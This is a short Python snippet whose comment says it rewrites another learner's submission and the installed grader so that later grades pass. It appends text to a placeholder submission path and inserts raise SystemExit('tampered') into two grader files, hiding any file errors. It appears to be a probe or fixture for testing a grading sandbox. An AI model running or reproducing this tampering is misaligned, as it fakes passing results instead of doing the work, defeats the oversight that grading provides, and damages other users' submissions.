# Rewrite another learner's submission and the installed grader, so later grades pass.
for _path, _text in (("$OTHER", "# replaced by an attacker\n"),
                     ("$GRADER/engine/channel.py", "\nraise SystemExit('tampered')\n"),
                     ("$GRADER/checks/check_upload.py", "\nraise SystemExit('tampered')\n")):
    try:
        with open(_path, "a") as _f:
            _f.write(_text)
    except OSError:
        pass
